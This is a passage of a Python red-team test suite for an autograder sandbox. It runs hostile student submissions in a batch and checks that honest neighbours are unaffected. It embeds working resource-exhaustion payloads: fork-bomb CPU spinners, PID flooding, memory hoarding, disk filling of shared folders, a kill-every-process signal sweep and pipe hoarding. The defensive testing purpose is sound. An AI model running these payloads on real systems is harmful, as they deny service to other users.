        attack, run = describe(marked_processes(rt.mark)), describe(processes_naming(rt.tag))
    finally:
        kill_all(processes_naming(rt.tag))
        kill_marked(rt.mark)
        try:
            proc.kill()
        except OSError:
            pass
        proc.wait()
    return attack, run, log.read_text(errors="replace")


def test_judge_sigkilled_during_a_single_run(rt):
    """`pytest grader --submission X` SIGKILLed while the attack's call sleeps and its daemons wait: nothing survives"""
    folder = rt.folder(hostile(S1, BUSY_WITH_A_DAEMON), where=rt.tmp / rt.tag / "submission")
    attack, run, _ = sigkill_the_judge(rt, ["--submission", str(folder)], busy=2)
    assert not attack and not run, \
        f"alive {SURVIVOR_WAIT:g} s after the judge was SIGKILLed: attack {attack}, run {run}"




def test_judge_sigkilled_during_a_batch(rt):
    """`pytest grader --submissions DIR --out OUT` (two judge processes) SIGKILLed while both grade an attacker"""
    cls = rt.tmp / rt.tag / "class"
    submission_from_solutions(cls / "a-honest")
    for i in range(4):
        submission_from_solutions(cls / f"b-attacker-{i}", {k: rt.fill(v) for k, v in
                                                           hostile(S1, BUSY_WITH_A_DAEMON).items()})
    attack, run, output = sigkill_the_judge(rt, ["--submissions", str(cls), "--out", str(rt.tmp / rt.tag / "out"),
                                                 "--grader-jobs", "2"], busy=4)
    if attack or run:
        raise GapShown(f"alive {SURVIVOR_WAIT:g} s after the main judge was SIGKILLed: attack {attack}, run {run}")


# ---------------------------------------------------------------- 4. harm to the neighbours of a batch
# One class: five honest students (copies of solutions/) interleaved with the attackers, so that while one judge
# process grades an attacker the other grades an honest student; graded once with --grader-timeout 3, and the
# honest students once alone with the same seed. Each attacker's sec1 is a stub carrying the attack at module
# level, so it runs at every sec1 call (about ten of them).

CPU_SPINNERS = '''\
# forking the runner (a torch process) costs about 30 ms; a shell forks its spinners in a fraction of that
_rt_spin = "sleep 0.8; while :; do :; done # __MARK__"  # all forked before any spins
_rt_cmd = f"i=0; while [ $i -lt 122 ]; do setsid sh -c '{_rt_spin}' & i=$((i+1)); done; wait # __MARK__"
if _rt_os.fork() == 0:
    _rt_os.execv("/bin/sh", ["sh", "-c", _rt_cmd])  # each spinner a session (and a scheduler autogroup) of its own
_rt_time.sleep(0.7)
_rt_say("RT-SPINNERS", len([p for p in _rt_os.listdir("/proc") if p.isdigit()]))
while True:
    pass
'''

PIDS_FILLED = '''\
_rt_cmd = "i=0; while [ $i -lt 200 ]; do setsid sh -c 'sleep 60; : __MARK__' & i=$((i+1)); done; wait # __MARK__"
if _rt_os.fork() == 0:
    _rt_os.execv("/bin/sh", ["sh", "-c", _rt_cmd])  # a shell forks far faster than the runner
_rt_time.sleep(0.8)
_rt_say("RT-PIDS-FULL", len([p for p in _rt_os.listdir("/proc") if p.isdigit()]))
_rt_time.sleep(0.5)
'''

MEMORY_TO_THE_LIMIT = '''\
_rt_kids = []
for _ in range(3):  # four processes of 1 GiB each, every page written: past the session's 3 GiB
    _rt_pid = _rt_os.fork()
    if _rt_pid == 0:
        try:
            _rt_hoard = b"\\x01" * (1 << 30)
            _rt_time.sleep(60)
        finally:
            _rt_os._exit(0)
    _rt_kids.append(_rt_pid)
_rt_say("RT-MEMORY", len(_rt_kids))
try:
    _rt_hoard = b"\\x01" * (1 << 30)
    _rt_say("RT-MEMORY-HELD")
except MemoryError:
    _rt_say("RT-MEMORY-REFUSED")
_rt_time.sleep(0.5)
'''

DISK_FILLED = '''\
def _rt_fill(folder):
    written, i = 0, 0
    block = b"\\0" * (1 << 20)
    while written < 512 << 20:
        path = _rt_os.path.join(folder, f"rt-__MARK__-{i}.bin")
        i += 1
        try:
            with open(path, "wb") as f:
                for _ in range(16):  # files of 16 MiB (RLIMIT_FSIZE)
                    f.write(block)
                    written += 1 << 20
        except OSError:
            break
    return written >> 20


_rt_say("RT-DISK", {folder: _rt_fill(folder) for folder in
                    (".", "/tmp", "/var/tmp", "/dev/shm", "/run", _rt_os.path.expanduser("~"))})
_rt_time.sleep(0.5)
'''

SIGNALS_EVERYWHERE = '''\
_rt_victim = _rt_os.fork()  # a process of its own, to show signals arrive where they are allowed
if _rt_victim == 0:
    _rt_time.sleep(60)
    _rt_os._exit(0)
_rt_pid = _rt_os.fork()
if _rt_pid == 0:
    hit = set()
    for pid in range(1, 1 << 16):
        if pid in (_rt_os.getpid(), _rt_os.getppid()):  # itself and its own runner: that is self-harm only
            continue
        for s in (_rt_signal.SIGSTOP, _rt_signal.SIGTERM, _rt_signal.SIGKILL):
            try:
                _rt_os.kill(pid, s)
                hit.add(pid)
            except OSError:
                pass
    try:
        _rt_os.kill(-1, _rt_signal.SIGKILL)  # every process it may signal
    except OSError:
        pass
    _rt_say("RT-SIGNALLED-OTHERS", sorted(hit - {_rt_victim}), "RT-VICTIM-HIT", _rt_victim in hit)
    _rt_os._exit(0)
_rt_os.waitpid(_rt_pid, 0)
'''

DESCRIPTORS_HOARDED = '''\
import fcntl as _rt_fcntl
_rt_made = 0
for _ in range(60):
    try:
        _rt_pid = _rt_os.fork()
    except OSError:
        break
    if _rt_pid == 0:
        try:
            while True:  # as many pipes as RLIMIT_NOFILE allows, each as large as allowed and full
                r, w = _rt_os.pipe()
                try:
                    _rt_fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
                except OSError:
                    pass
                _rt_os.set_blocking(w, False)
                try:
                    while True:
                        _rt_os.write(w, b"\\1" * 65536)
                except OSError:
                    pass
        except OSError:
            pass
        _rt_time.sleep(60)
        _rt_os._exit(0)
    _rt_made += 1
_rt_say("RT-PIPES", _rt_made, len(_rt_fds()))
_rt_time.sleep(0.5)
'''

BATCH_ATTACKS = {  # student id -> (files, attacked tasks, what its feedback must show)
    "b-cpu-spinners": (hostile(S1, CPU_SPINNERS), S1_TASKS, "RT-SPINNERS 12"),
    "e-pids-filled": (hostile(S1, PIDS_FILLED), S1_TASKS, "RT-PIDS-FULL 12"),
    "h-memory-to-the-limit": (hostile(S1, MEMORY_TO_THE_LIMIT), S1_TASKS, "RT-MEMORY 3"),
    "k-disk-filled": (hostile(S1, DISK_FILLED), S1_TASKS, "RT-DISK {'.': 6"),
    "n-signals-everywhere": (hostile(S1, SIGNALS_EVERYWHERE), S1_TASKS, "RT-SIGNALLED-OTHERS [] RT-VICTIM-HIT True"),
    "p-descriptors-hoarded": (hostile(S1, DESCRIPTORS_HOARDED), S1_TASKS, "RT-PIPES 6"),
    "s-steals-calls-in-a-batch": (steal(0.6), S1_TASKS | S4_TASKS, "RT-STOLE"),
}
# Entries are claimed in name order by the two judge processes (the first alone, before the helper starts): one or
# two honest students after each attacker are graded by the other judge while that attacker runs.
NEIGHBOURS = [f"{letter}-honest" for letter in "acdfgijlmoqrt"]


@pytest.fixture(scope="module")
def neighbours(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    """The class with attackers and the honest students alone, both graded; what the attackers left."""
    base = tmp_path_factory.mktemp("redteam-channels-batch")
    marks = {sid: "rt" + uuid.uuid4().hex[:10] for sid in BATCH_ATTACKS}
    cls, alone = base / "class", base / "alone"
    for folder in (cls, alone):
        for sid in NEIGHBOURS:
            submission_from_solutions(folder / sid)
    for sid, (files, _, _) in BATCH_ATTACKS.items():
        submission_from_solutions(cls / sid, {name: text.replace("__MARK__", marks[sid])
                                              for name, text in files.items()})
    try:
        ran_alone = run(alone, base / "out-alone")
        ran = run(cls, base / "out")
        ended = time.monotonic()
        while any(marked_processes(m) for m in marks.values()) and time.monotonic() < ended + SURVIVOR_WAIT:
            time.sleep(0.1)
        survivors = {sid: describe(marked_processes(m)) for sid, m in marks.items()}
        left = {sid: [p for top in ("/tmp", "/var/tmp", "/dev/shm", "/run", str(Path.home()))
                      for p in Path(top).glob(f"rt-{m}-*")] for sid, m in marks.items()}
    finally:
        for m in marks.values():
            kill_marked(m)
    for paths in left.values():
        for path in paths:
            path.unlink(missing_ok=True)
    return SimpleNamespace(ran=ran, alone=ran_alone, results=results(base / "out"),
                           results_alone=results(base / "out-alone"), survivors=survivors, left=left, cls=cls)


def run(cls: Path, out: Path) -> SimpleNamespace:
    """`pytest grader --submissions cls --out out` with two judge processes, in its own session."""
    log = out.with_name(out.name + ".log")
    with open(log, "w+b") as output:
        proc = subprocess.Popen([sys.executable, "-m", "pytest", "grader", "--submissions", str(cls), "--out", str(out),
                                 "-p", "no:cacheprovider", *SLOW, "--grader-jobs", "2"], cwd=ROOT, env=environment(),
                                stdin=subprocess.DEVNULL, stdout=output, stderr=subprocess.STDOUT,
                                start_new_session=True)
        try:
            proc.wait(timeout=400)
        finally:
            try:
                os.killpg(proc.pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
            proc.wait()
        output.seek(0)
        text = output.read().decode("utf-8", "replace")
    return SimpleNamespace(returncode=proc.returncode, output=text)


def per_task(result: dict) -> dict[str, float]:
    return {task: entry["earned"] for task, entry in result["grade"]["tasks"].items()}


def test_batch_ran_and_graded_everyone(neighbours):
    for ran in (neighbours.ran, neighbours.alone):
        assert ran.returncode in (0, 1) and "INTERNALERROR" not in ran.output, ran.output[-3000:]
    assert sorted(neighbours.results) == sorted([*NEIGHBOURS, *BATCH_ATTACKS])
    assert all(r["status"] == "graded" for r in neighbours.results.values())
    assert all(sum(per_task(neighbours.results_alone[sid]).values()) == sum(t.points for t in TASKS.values())
               for sid in NEIGHBOURS)


@pytest.mark.parametrize("sid", NEIGHBOURS)
def test_neighbour_earns_what_it_earns_alone(neighbours, sid):
    """each honest student's points, task by task, and each test's outcome, as when graded without the attackers"""
    with_attackers, alone = neighbours.results[sid], neighbours.results_alone[sid]
    assert per_task(with_attackers) == per_task(alone)
    assert [(t["nodeid"], t["outcome"]) for t in with_attackers["tests"]] == \
        [(t["nodeid"], t["outcome"]) for t in alone["tests"]]


@pytest.mark.parametrize("sid", list(BATCH_ATTACKS))
def test_attacker_in_a_batch(neighbours, sid):
    """the attack ran, earned nothing in the tasks it attacks, left no process and no file behind"""
    _, attacked, shown = BATCH_ATTACKS[sid]
    result = neighbours.results[sid]
    problems = []
    texts = [t.get("feedback", "") for t in result["tests"] if t["task"] in attacked and t.get("feedback")]
    if not any(shown in text for text in texts):
        problems.append(f"{shown!r} is in no feedback: the attack did not run as written\n" + "\n".join(texts[:4]))
    for task, got in per_task(result).items():
        limit = 0.0 if task in attacked else TASKS[task].points
        if got > limit:
            problems.append(f"task {task}: earned {got:g}, at most {limit:g}")
    if any("sec4_training.py')" in text for text in texts):
        problems.append("a call of sec4 reached the runner of sec1")
    if neighbours.survivors[sid]:
        problems.append(f"still alive {SURVIVOR_WAIT:g} s after the batch: {neighbours.survivors[sid]}")
    if neighbours.left[sid]:
        problems.append(f"files left in shared places: {neighbours.left[sid]}")
    assert not problems, "\n".join(problems)





